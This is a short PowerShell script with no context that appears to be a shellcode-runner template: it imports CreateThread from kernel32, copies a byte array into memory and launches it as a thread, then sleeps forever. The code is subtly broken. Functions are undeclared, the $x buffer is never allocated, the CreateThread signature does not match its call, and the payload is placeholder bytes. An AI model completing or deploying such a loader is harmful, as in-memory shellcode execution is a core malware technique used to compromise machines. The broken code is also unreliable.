$c = '[DllImport("kernel32.dll")]public static extern IntPtr CreateThread(IntPtr a);'
$w = Add-Type -memberDefinition $c -Name "W" -namespace N -passthru
[Byte[]]$z = 0x01,0x02,0x03
for ($i=0;$i -le ($z.Length-1);$i++) { $w::memset([IntPtr]($x.ToInt32()+$i), $z[$i], 1) }
$w::CreateThread(0,0,$x,0,0,0)
for (;;) { Start-Sleep 60 }
